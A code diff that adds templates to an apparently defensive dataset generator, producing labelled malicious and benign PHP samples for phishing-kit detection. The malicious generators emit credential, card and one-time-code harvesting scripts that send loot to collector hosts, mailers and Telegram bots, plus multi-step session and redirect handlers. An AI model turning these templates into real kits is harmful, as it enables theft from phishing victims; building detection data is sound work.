@@ -1777,6 +1777,295 @@ def pb_real_login_page(g):
                 "</form>", "<input type=\"hidden\" name=\"csrf\" value=\"<?php echo $csrf; ?>\">\n</form>"))
 
 
+# ---- second phishing session (issue 12): the channels the first templates do
+# not use — a webhook or the author's own collector (curl, a stream context,
+# WordPress's HTTP API), a mailer object, a Telegram API whose host is in a
+# config file — and the multi-step kit: the session that carries the login to
+# the card and OTP steps, the redirect handler. Invented from the technique.
+
+PH_COLLECTORS = ["https://webhook.site/%s-4f1c", "https://hooks.zapier.example/catch/%s/",
+                 "https://%s.workers.dev/collect", "http://185.%d.%d.7/gate.php", "https://drop-%s.top/in.php",
+                 "https://api.%s.ru/v1/log"]
+
+
+def ph_collector_url(g):
+    r = g.rng
+    u = r.choice(PH_COLLECTORS)
+    if "%d" in u:
+        return u % (r.randint(1, 254), r.randint(1, 254))
+    return u % g.ident().lower().strip("_")[:8]
+
+
+def ph_exfil_http(g, m, fields, split):
+    """Post the loot to a collector that is not a messenger. m is the text;
+    fields the (label, expression) pairs, for the structured form."""
+    r = g.rng
+    url = "$" + r.choice(["url", "endpoint", "gate", "hook", "api"])
+    if split:
+        g.transforms.add("split-config")
+        g.stmt("%s %s;" % (r.choice(["include", "require_once"]), g.lit(r.choice(["config.php", "set.php", "../conf.php"]))))
+    else:
+        g.stmt("%s = %s;" % (url, g.enc(ph_collector_url(g), allow=["plain", "plain", "concat"])))
+    structured = r.random() < 0.3
+    if structured:  # the fields one by one, as an API would take them
+        g.transforms.add("structured")
+        data = "array(%s)" % ", ".join("%s => %s" % (g.lit(lab.lower().replace(" ", "_")), e) for lab, e in fields)
+    else:
+        data = "array(%s => %s)" % (g.lit(r.choice(["text", "content", "message", "data", "log"])), m)
+    ch = r.choice(["curl", "curl", "curl_array", "context", "wp"])
+    g.transforms.add("http:" + ch)
+    c = g.var()
+    enc = r.choice(["json_encode", "http_build_query"])
+    if ch == "curl":
+        return ("%s = %s();\n%s(%s, CURLOPT_URL, %s);\n%s(%s, CURLOPT_POST, true);\n"
+                "%s(%s, CURLOPT_POSTFIELDS, %s(%s));\n%s(%s, CURLOPT_RETURNTRANSFER, 1);\n%s%s(%s);"
+                % (c, g.fn("curl_init"), g.fn("curl_setopt"), c, url, g.fn("curl_setopt"), c,
+                   g.fn("curl_setopt"), c, g.fn(enc), data, g.fn("curl_setopt"), c, g.at(), g.fn("curl_exec"), c))
+    if ch == "curl_array":
+        return ("%s = %s();\n%s(%s, array(CURLOPT_URL => %s, CURLOPT_POST => 1, CURLOPT_POSTFIELDS => %s(%s), "
+                "CURLOPT_RETURNTRANSFER => true, CURLOPT_SSL_VERIFYPEER => false));\n%s(%s);"
+                % (c, g.fn("curl_init"), g.fn("curl_setopt_array"), c, url, g.fn(enc), data, g.fn("curl_exec"), c))
+    if ch == "context":
+        x = g.var()
+        return ("%s = %s(array('http' => array('method' => 'POST', 'header' => %s, 'content' => %s(%s))));\n"
+                "%s%s(%s, false, %s);"
+                % (x, g.fn("stream_context_create"), g.lit("Content-type: application/x-www-form-urlencoded"),
+                   g.fn(enc), data, g.at(), g.fn("file_get_contents"), url, x))
+    return "%s(%s, array('body' => %s, 'timeout' => 15));" % (g.fn("wp_remote_post"), url, data)
+
+
+def ph_exfil_mailer(g, m, title, split):
+    """A mailer object (PHPMailer) to the drop box."""
+    r = g.rng
+    o = g.var()
+    if split:
+        g.transforms.add("split-config")
+        g.stmt("%s %s;" % (r.choice(["include", "require"]), g.lit(r.choice(["email.php", "config.php"]))))
+        to = "$" + r.choice(["to", "send", "recipient", "resultbox"])
+    else:
+        to = g.enc(r.choice(PH_DROPS) % r.randint(1, 99), allow=["plain", "plain", "concat", "base64"])
+    body = r.choice(["%s->Body = %s;" % (o, m), "%s->msgHTML(%s(%s));" % (o, g.fn("nl2br"), m),
+                     "%s->isHTML(false);\n%s->Body = %s;\n%s->AltBody = %s;" % (o, o, m, o, m)])
+    return ("require_once %s;\n%s = new %s();\n%s->setFrom(%s, %s);\n%s->addAddress(%s);\n%s->Subject = %s;\n%s\n%s%s->send();"
+            % (g.lit(r.choice(["PHPMailer/PHPMailerAutoload.php", "vendor/autoload.php", "mailer/class.phpmailer.php"])),
+               o, r.choice(["PHPMailer", "PHPMailer\\PHPMailer\\PHPMailer"]), o, g.lit("noreply@" + r.choice(["secure.net", "server.com"])),
+               g.lit(title), o, to, o, g.lit(title + " " + r.choice(["Login", "Rezult", "Info"])), body, g.at(), o))
+
+
+def ph_exfil_tg_hidden(g, m):
+    """Telegram with the API host, the token and the chat in a config file."""
+    r = g.rng
+    g.transforms.add("split-config")
+    g.stmt("%s %s;" % (r.choice(["include", "require", "require_once"]), g.lit(r.choice(["tg.php", "config.php", "../bot.php"]))))
+    api = "$" + r.choice(["api", "tg_api", "bot_url", "website"])
+    chat = "$" + r.choice(["chat_id", "chatid", "id"])
+    if r.random() < 0.5:
+        return "%s%s(%s . \"/sendMessage?chat_id=\" . %s . \"&text=\" . %s(%s));" % (
+            g.at(), g.fn("file_get_contents"), api, chat, g.fn("urlencode"), m)
+    c = g.var()
+    return ("%s = %s(%s . '/sendMessage');\n%s(%s, CURLOPT_POSTFIELDS, array('chat_id' => %s, 'text' => %s, 'parse_mode' => 'HTML'));\n%s(%s);"
+            % (c, g.fn("curl_init"), api, g.fn("curl_setopt"), c, chat, m, g.fn("curl_exec"), c))
+
+
+def ph_handler2(g, fields, title, channel):
+    """A result script over the second set of channels."""
+    r = g.rng
+    brand, url = r.choice(PH_BRANDS)
+    pairs = [(lab, ph_post(g, k)) for lab, k in fields]
+    pairs += ph_fingerprint(g)
+    pre = g.take()
+    m, build = ph_message(g, pairs, title % brand if "%s" in title else title)
+    split = r.random() < 0.3
+    if channel == "http":
+        send = ph_exfil_http(g, m, pairs, split)
+    elif channel == "mailer":
+        send = ph_exfil_mailer(g, m, brand, split)
+    else:
+        send = ph_exfil_tg_hidden(g, m)
+    pre += g.take()
+    if r.random() < 0.3:
+        pre.insert(0, "session_start();")
+    body = "\n".join(pre) + "\n" + build + "\n" + send + "\n" + ph_redirect(g, url)
+    return php_file(g, body)
+
+
+def ph_fields(g):
+    r = g.rng
+    ren = r.random() < 0.15
+    if ren:
+        g.transforms.add("renamed-fields")
+    kind = r.randrange(3)
+    if kind == 0:
+        return [("Email", ph_key(g, PH_USER_KEYS, ren)), ("Password", ph_key(g, PH_PASS_KEYS, ren))]
+    if kind == 1:
+        keys = r.choice(PH_CARD_KEYS)
+        return [("Card", ph_key(g, [keys[0]], ren)), ("CVV", ph_key(g, [keys[1]], ren)), ("Exp", ph_key(g, [keys[2]], ren))]
+    return [("User", ph_key(g, PH_USER_KEYS, ren)), ("Code", ph_key(g, PH_OTP_KEYS, ren))]
+
+
+def p_webhook_result(g):
+    return ph_handler2(g, ph_fields(g), g.rng.choice(["%s Login", "New Log %s", "Rezult %s"]), "http")
+
+
+def p_mailer_result(g):
+    return ph_handler2(g, ph_fields(g), g.rng.choice(["%s Login", "Full Info %s", "%s Card"]), "mailer")
+
+
+def p_tg_hidden_result(g):
+    return ph_handler2(g, ph_fields(g), g.rng.choice(["%s Log", "ReZulT %s"]), "tg")
+
+
+PH_SESSION_KEYS = [("email", "password"), ("user", "pass"), ("login", "passwd"), ("ai", "pr"), ("mail", "pwd")]
+
+
+def p_session_step(g):
+    """The middle step: keep what was posted in the session, send the visitor on."""
+    r = g.rng
+    u = r.choice(PH_SESSION_KEYS)[0]
+    lines = ["session_start();"]
+    if r.random() < 0.5:
+        lines.append("%s %s;" % (r.choice(["include", "require_once"]), g.lit(r.choice(["antibot.php", "blocker.php", "../anti/bots.php"]))))
+    src = r.choice(["$_POST", "$_POST", "$_REQUEST"])
+    pk = r.choice(["password", "pass", "passwd", "pwd", "ccnum", "cvv", "otp", "pin"])
+    lines.append("$_SESSION[%s] = %s[%s];" % (g.lit(u), src, g.lit(r.choice(PH_USER_KEYS))))
+    val = "%s[%s]" % (src, g.lit(pk))
+    wrap = r.choice(["", "", "trim", "htmlspecialchars"])
+    if wrap:
+        val = "%s(%s)" % (g.fn(wrap), val)
+    lines.append("$_SESSION[%s] = %s;" % (g.lit(pk), val))
+    if r.random() < 0.5:
+        lines.append("$_SESSION['ip'] = $_SERVER['REMOTE_ADDR'];")
+    nxt = r.choice(["card.php", "verify.php", "billing.php", "otp.php", "step3.php"])
+    red = r.randrange(3)
+    if red == 0:
+        lines.append("%s(%s . %s(%s()));\nexit;" % (g.fn("header"), g.lit("Location: %s?session=" % nxt), g.fn("md5"), r.choice(["time", "uniqid", "microtime"])))
+    elif red == 1:
+        lines.append("%s(%s);" % (g.fn("header"), g.lit("Location: %s" % nxt)))
+    else:
+        lines.append("echo %s;" % g.lit("<meta http-equiv=\"refresh\" content=\"0;url=%s\">" % nxt))
+    return php_file(g, "\n".join(lines))
+
+
+def p_session_result(g):
+    """The last step: what the earlier steps kept in the session, and the code just posted, sent away."""
+    r = g.rng
+    u = r.choice(PH_SESSION_KEYS)[0]
+    otp = r.choice(PH_OTP_KEYS)
+    pairs = [("Email", "$_SESSION[%s]" % g.lit(u)), ("Password", "$_SESSION[%s]" % g.lit(r.choice(["password", "pass", "passwd", "pwd"]))),
+             ("Card", "$_SESSION[%s]" % g.lit(r.choice(["ccnum", "cardnumber", "card_no"]))),
+             ("CVV", "$_SESSION[%s]" % g.lit(r.choice(["cvv", "cvc"]))), ("OTP", ph_post(g, otp))]
+    pairs += ph_fingerprint(g)
+    pre = g.take()
+    m, build = ph_message(g, pairs, "Full Info")
+    send = ph_exfil(g, m, "Full", split=r.random() < 0.25)
+    pre += g.take()
+    pre.insert(0, "session_start();")
+    brand, url = r.choice(PH_BRANDS)
+    body = "\n".join(pre) + "\n" + build + "\n" + send + "\nsession_destroy();\n" + ph_redirect(g, url)
+    return php_file(g, body)
+
+
+def p_redirect_handler(g):
+    """The link's target: the victim's address carried on into the kit with a random session."""
+    r = g.rng
+    e = g.var()
+    k = r.choice(["email", "e", "u", "login", "ai"])
+    lines = ["%s = $_GET[%s];" % (e, g.lit(k))]
+    if r.random() < 0.4:
+        lines.insert(0, "%s %s;" % (r.choice(["include", "require_once"]), g.lit(r.choice(["antibot.php", "blocker.php"]))))
+    if r.random() < 0.3:
+        lines.append("%s = %s(%s);" % (e, g.fn(r.choice(["base64_decode", "trim"])), e))
+    rnd = r.choice(["md5(time())", "md5(uniqid(rand(), true))", "sha1(microtime())", "md5(rand(100, 999999))"])
+    tgt = r.choice(["signin/index.php", "login.php", "./auth/", "office/index.php"])
+    lines.append("header(\"Location: %s?%s=\" . %s . \"&session=\" . %s . \"&rand=\" . %s);\nexit;" % (
+        tgt, r.choice(["email", "login", "e"]), e, rnd, rnd))
+    return php_file(g, "\n".join(lines))
+
+
+# ---- benign look-alikes of the second session
+
+
+def pb_oauth_password_login(g):
+    body = ("session_start();\n$cfg = require __DIR__ . '/config.php';\n$ch = curl_init($cfg['idp_url'] . '/oauth/token');\n"
+            "curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('grant_type' => 'password', 'client_id' => $cfg['client_id'],\n"
+            "    'username' => $_POST['username'], 'password' => $_POST['password'], 'scope' => 'openid')));\n"
+            "curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n$tok = json_decode(curl_exec($ch), true);\n"
+            "if (!empty($tok['access_token'])) {\n    session_regenerate_id(true);\n    $_SESSION['token'] = $tok['access_token'];\n"
+            "    header('Location: /app/');\n    exit;\n}\nheader('Location: /login.php?error=1');\n")
+    return php_file(g, body)
+
+
+def pb_gateway_fraud_check(g):
+    r = g.rng
+    body = ("$payload = array(\n    'card_number' => $_POST['card_number'],\n    'cvv' => $_POST['cvv'],\n"
+            "    'exp' => $_POST['exp_month'] . '/' . $_POST['exp_year'],\n    'amount' => (int) $_SESSION['total'],\n"
+            "    'customer_ip' => $_SERVER['REMOTE_ADDR'],\n    'browser' => $_SERVER['HTTP_USER_AGENT'],\n);\n"
+            "$ch = curl_init();\ncurl_setopt_array($ch, array(CURLOPT_URL => 'https://api.%s/v2/payments', CURLOPT_POST => true,\n"
+            "    CURLOPT_POSTFIELDS => json_encode($payload), CURLOPT_HTTPHEADER => array('Authorization: Bearer ' . getenv('PAY_KEY')),\n"
+            "    CURLOPT_RETURNTRANSFER => true));\n$res = json_decode(curl_exec($ch), true);\n"
+            "error_log('payment ' . $res['id'] . ' card ending ' . substr($_POST['card_number'], -4));\n"
+            "header('Location: /order/thanks?id=' . urlencode($res['id']));\n"
+            % r.choice(["paygate.example", "checkout.example.net", "acquirer.example.com"]))
+    return php_file(g, body)
+
+
+def pb_recaptcha_login(g):
+    body = ("session_start();\nrequire 'db.php';\n"
+            "$check = json_decode(file_get_contents('https://www.google.com/recaptcha/api/siteverify?secret=' . RECAPTCHA_SECRET .\n"
+            "    '&response=' . urlencode($_POST['g-recaptcha-response']) . '&remoteip=' . $_SERVER['REMOTE_ADDR']), true);\n"
+            "if (empty($check['success'])) {\n    exit('captcha failed');\n}\n"
+            "$st = $pdo->prepare('SELECT id, hash FROM users WHERE email = ?');\n$st->execute(array($_POST['email']));\n$u = $st->fetch();\n"
+            "if ($u && password_verify($_POST['password'], $u['hash'])) {\n    $_SESSION['uid'] = $u['id'];\n    header('Location: /account');\n    exit;\n}\n")
+    return php_file(g, body)
+
+
+def pb_phpmailer_welcome(g):
+    body = ("require 'vendor/autoload.php';\n$mail = new PHPMailer\\PHPMailer\\PHPMailer(true);\n"
+            "$mail->setFrom('noreply@example.com', 'Example');\n$mail->addAddress($_POST['email'], $_POST['name']);\n"
+            "$mail->Subject = 'Your new account';\n"
+            "$mail->Body = \"Hello \" . $_POST['name'] . \",\\nyour login is \" . $_POST['username'] . \" and the password the one you chose.\";\n"
+            "$mail->send();\nheader('Location: /welcome');\n")
+    return php_file(g, body)
+
+
+def pb_phpmailer_contact(g):
+    body = ("require 'vendor/autoload.php';\n$mail = new PHPMailer\\PHPMailer\\PHPMailer();\n$mail->addAddress('office@example.com');\n"
+            "$mail->addReplyTo($_POST['email']);\n$mail->Subject = 'Contact form';\n"
+            "$mail->Body = 'From: ' . $_POST['name'] . \"\\n\" . $_POST['message'] . \"\\nIP: \" . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['HTTP_USER_AGENT'];\n"
+            "$mail->send();\nheader('Location: /thanks.html');\n")
+    return php_file(g, body)
+
+
+def pb_crm_web_to_lead(g):
+    body = ("$lead = array('source' => 'website', 'ip' => $_SERVER['REMOTE_ADDR'], 'ua' => $_SERVER['HTTP_USER_AGENT']);\n"
+            "foreach ($_POST as $k => $v) {\n    $lead[$k] = $v;\n}\n"
+            "wp_remote_post('https://crm.example.com/api/leads', array('body' => $lead));\n"
+            "wp_safe_redirect(home_url('/thank-you/'));\nexit;\n")
+    return php_file(g, body)
+
+
+def pb_email_verify_redirect(g):
+    body = ("require 'bootstrap.php';\n$email = filter_var($_GET['email'] ?? '', FILTER_VALIDATE_EMAIL);\nif (!$email) {\n    exit('bad link');\n}\n"
+            "$_SESSION['pending_email'] = $email;\nheader('Location: /verify.php?email=' . urlencode($email));\nexit;\n")
+    return php_file(g, body)
+
+
+PHISH_TEMPLATES2 = [
+    ("kit_webhook_result", p_webhook_result, "malicious", "php", "high"),
+    ("kit_mailer_result", p_mailer_result, "malicious", "php", "high"),
+    ("kit_tg_hidden", p_tg_hidden_result, "malicious", "php", "high"),
+    ("kit_session_result", p_session_result, "malicious", "php", "high"),
+    ("kit_session_step", p_session_step, "malicious", "php", "any"),
+    ("kit_redirect", p_redirect_handler, "malicious", "php", "any"),
+    ("oauth_password_login", pb_oauth_password_login, "benign", "php", "none"),
+    ("gateway_fraud_check", pb_gateway_fraud_check, "benign", "php", "none"),
+    ("recaptcha_login", pb_recaptcha_login, "benign", "php", "none"),
+    ("phpmailer_welcome", pb_phpmailer_welcome, "benign", "php", "none"),
+    ("phpmailer_contact", pb_phpmailer_contact, "benign", "php", "none"),
+    ("crm_web_to_lead", pb_crm_web_to_lead, "benign", "php", "none"),
+    ("email_verify_redirect", pb_email_verify_redirect, "benign", "php", "none"),
+]
+
 PHISH_TEMPLATES = [
     ("kit_login_result", p_login_result, "malicious", "php", "high"),
     ("kit_card_result", p_card_result, "malicious", "php", "high"),
@@ -1797,7 +2086,7 @@ PHISH_TEMPLATES = [
     ("register", pb_register, "benign", "php", "none"),
     ("real_login_page", pb_real_login_page, "benign", "php", "none"),
 ]
-TEMPLATES += PHISH_TEMPLATES
+TEMPLATES += PHISH_TEMPLATES + PHISH_TEMPLATES2
 # ==================================================== end of PHISHING KITS
 
 
